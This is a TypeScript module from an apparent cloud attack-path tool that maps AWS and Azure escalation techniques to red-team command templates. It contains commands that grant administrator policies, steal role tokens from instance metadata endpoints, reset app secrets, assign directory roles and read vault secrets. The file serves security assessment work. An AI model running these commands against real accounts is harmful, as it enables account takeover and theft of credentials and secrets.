/**
 * Red-team walk-through: per technique, the commands that exercise one hop, as templates filled
 * from the hop (src/query/walkthrough.ts). Written only where the command can be stated from what
 * the graph knows; the rest keeps its prose in docs.abuse.
 *
 * Placeholders: {from} {to} (node ids), {fromName} {toName}, {toScope} (account / tenant),
 * {toBase} / {toBaseName} (the id before a `#` suffix, and its last path segment), {resource} /
 * {resourceName} (the compute or object named by the hop's inventory evidence, and its last path
 * segment), {fromAppId} (the application of an Entra credential), {toAppId}, {toObjectId},
 * {toRoleTemplateId}, {vault}, {secretName}. A value the hop cannot fill stays as `<…>`.
 */
const ASSUMED = '# export the returned Credentials (AccessKeyId, SecretAccessKey, SessionToken) as AWS_* variables';
const IMDS_ROLE = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/{toName}';
const ADMIN_DOC = `'{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'`;
const AZ_TOKEN = `curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'`;
const APP_SECRET = ['az ad app credential reset --id {toAppId} --append', 'az login --service-principal -u {toAppId} -p <the new secret> --tenant {toScope}'];
const GROUP_JOIN = ['az ad group member add --group {toObjectId} --member-id <your object id>'];
const GRANT_GA = [
  `az rest --method POST --url https://graph.microsoft.com/v1.0/roleManagement/directory/roleAssignments --body '{"principalId":"<your object id>","roleDefinitionId":"{toRoleTemplateId}","directoryScopeId":"/"}'`,
];
const KV_READ = ['az keyvault secret show --vault-name {vault} --name {secretName} --query value'];

export const WALKTHROUGHS: Readonly<Record<string, readonly string[]>> = {
  // AWS
  'aws:iam:AccessKey': ['export AWS_ACCESS_KEY_ID={fromName} AWS_SECRET_ACCESS_KEY=<the leaked secret>', 'aws sts get-caller-identity'],
  'aws:sts:AssumeRole': ['aws sts assume-role --role-arn {to} --role-session-name leakpath', ASSUMED],
  'aws:sts:AssumeRoleWithWebIdentity': ['aws sts assume-role-with-web-identity --role-arn {to} --role-session-name leakpath --web-identity-token <OIDC token issued to {fromName}>', ASSUMED],
  'aws:iam:CreateAccessKey': ['aws iam create-access-key --user-name {toName}', '# export the returned AccessKeyId and SecretAccessKey as AWS_* variables'],
  'aws:iam:CreateLoginProfile': ['aws iam create-login-profile --user-name {toName} --password <new password> --no-password-reset-required', '# sign in at https://{toScope}.signin.aws.amazon.com/console'],
  'aws:iam:UpdateLoginProfile': ['aws iam update-login-profile --user-name {toName} --password <new password> --no-password-reset-required', '# sign in at https://{toScope}.signin.aws.amazon.com/console'],
  'aws:iam:UpdateAssumeRolePolicy': ['aws iam update-assume-role-policy --role-name {toName} --policy-document file://trust-me.json', 'aws sts assume-role --role-arn {to} --role-session-name leakpath'],
  'aws:iam:AddUserToGroup': ['aws iam add-user-to-group --group-name {toName} --user-name <your user>'],
  'aws:iam:PutUserPolicy': [`aws iam put-user-policy --user-name <user you act as> --policy-name leakpath --policy-document ${ADMIN_DOC}`],
  'aws:iam:AttachUserPolicy': ['aws iam attach-user-policy --user-name <user you act as> --policy-arn arn:aws:iam::aws:policy/AdministratorAccess'],
  'aws:iam:PutRolePolicy': [`aws iam put-role-policy --role-name <role you act as> --policy-name leakpath --policy-document ${ADMIN_DOC}`],
  'aws:iam:AttachRolePolicy': ['aws iam attach-role-policy --role-name <role you act as> --policy-arn arn:aws:iam::aws:policy/AdministratorAccess'],
  'aws:iam:PutGroupPolicy': [`aws iam put-group-policy --group-name <group you are in> --policy-name leakpath --policy-document ${ADMIN_DOC}`],
  'aws:iam:AttachGroupPolicy': ['aws iam attach-group-policy --group-name <group you are in> --policy-arn arn:aws:iam::aws:policy/AdministratorAccess'],
  'aws:iam:CreatePolicyVersion': [`aws iam create-policy-version --policy-arn <policy attached to you> --policy-document ${ADMIN_DOC} --set-as-default`],
  'aws:lambda:CreateFunction+InvokeFunction': [
    'aws lambda create-function --function-name leakpath --runtime python3.12 --handler index.handler --zip-file fileb://fn.zip --role {to}',
    'aws lambda invoke --function-name leakpath out.json',
  ],
  'aws:ec2:RunInstances': ['aws ec2 run-instances --image-id <ami> --instance-type t3.micro --iam-instance-profile Name=<instance profile of {toName}> --user-data file://send-credentials.sh'],
  'aws:cloudformation:CreateStack': ['aws cloudformation create-stack --stack-name leakpath --template-body file://admin-user.yaml --role-arn {to} --capabilities CAPABILITY_NAMED_IAM'],
  'aws:glue:CreateDevEndpoint': ['aws glue create-dev-endpoint --endpoint-name leakpath --role-arn {to} --public-key file://id.pub', '# ssh to the endpoint and read the role credentials'],
  'aws:codebuild:CreateProject+StartBuild': [
    'aws codebuild create-project --name leakpath --source file://source-with-buildspec.json --artifacts type=NO_ARTIFACTS --environment type=LINUX_CONTAINER,image=aws/codebuild/standard:7.0,computeType=BUILD_GENERAL1_SMALL --service-role {to}',
    'aws codebuild start-build --project-name leakpath',
  ],
  'aws:sagemaker:CreateNotebookInstance': [
    'aws sagemaker create-notebook-instance --notebook-instance-name leakpath --instance-type ml.t3.medium --role-arn {to}',
    'aws sagemaker create-presigned-notebook-instance-url --notebook-instance-name leakpath',
  ],
  'aws:lambda:UpdateFunctionCode': ['aws lambda update-function-code --function-name {resource} --zip-file fileb://payload.zip', 'aws lambda invoke --function-name {resource} out.json'],
  'aws:ssm:SendCommand': [
    `aws ssm send-command --instance-ids {resourceName} --document-name AWS-RunShellScript --parameters commands='curl -s ${IMDS_ROLE}'`,
    'aws ssm get-command-invocation --command-id <CommandId> --instance-id {resourceName}',
  ],
  'aws:ssm:StartSession': ['aws ssm start-session --target {resourceName}', `curl -s ${IMDS_ROLE}`],
  'aws:codebuild:StartBuild': ['aws codebuild start-build --project-name {resourceName} --buildspec-override file://buildspec.yml'],
  'aws:sagemaker:CreatePresignedNotebookInstanceUrl': ['aws sagemaker create-presigned-notebook-instance-url --notebook-instance-name {resourceName}'],
  'aws:ecs:ExecuteCommand': ['aws ecs execute-command --cluster <cluster> --task <task id> --container <container> --interactive --command /bin/sh', 'curl -s "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"'],
  'aws:secretsmanager:GetSecretValue': ['aws secretsmanager get-secret-value --secret-id {to}'],
  'aws:ssm:GetParameter': ['aws ssm get-parameter --name {to} --with-decryption'],
  'aws:lambda:GetFunctionConfiguration': ['aws lambda get-function-configuration --function-name {toBase} --query Environment.Variables'],
  'aws:codebuild:BatchGetProjects': ['aws codebuild batch-get-projects --names {toBase} --query "projects[].environment.environmentVariables"'],
  'aws:ec2:DescribeInstanceAttribute': ['aws ec2 describe-instance-attribute --instance-id {toBaseName} --attribute userData --query UserData.Value --output text | base64 -d'],

  // Azure
  'azure:entra:ClientSecret': ['az login --service-principal -u {fromAppId} -p <the leaked secret> --tenant {toScope}'],
  'azure:entra:Certificate': ['az login --service-principal -u {fromAppId} --certificate <leaked-cert.pem> --tenant {toScope}'],
  'azure:entra:ApplicationAdministrator': APP_SECRET,
  'azure:entra:AppOwner': APP_SECRET,
  'azure:graph:Application.ReadWrite.All': APP_SECRET,
  'azure:graph:Application.ReadWrite.OwnedBy': APP_SECRET,
  'azure:entra:ServicePrincipalOwner': ['az ad sp credential reset --id {toObjectId} --append', 'az login --service-principal -u <appId of the service principal> -p <the new secret> --tenant {toScope}'],
  'azure:entra:GroupOwner': GROUP_JOIN,
  'azure:graph:Directory.ReadWrite.All': GROUP_JOIN,
  'azure:graph:Group.ReadWrite.All': GROUP_JOIN,
  'azure:graph:GroupMember.ReadWrite.All': GROUP_JOIN,
  'azure:entra:PrivilegedRoleAdministrator': GRANT_GA,
  'azure:graph:RoleManagement.ReadWrite.Directory': GRANT_GA,
  'azure:arm:RoleAssignmentWrite': ['az role assignment create --assignee <your object id> --role Owner --scope {to}'],
  'azure:arm:VMRunCommand': [`az vm run-command invoke --ids {resource} --command-id RunShellScript --scripts "${AZ_TOKEN}"`],
  'azure:keyvault:GetSecret': KV_READ,
  'azure:keyvault:AccessPolicy': KV_READ,
  'azure:keyvault:AddAccessPolicy': ['az keyvault set-policy --name {vault} --object-id <your object id> --secret-permissions get list', 'az keyvault secret list --vault-name {vault}'],
};
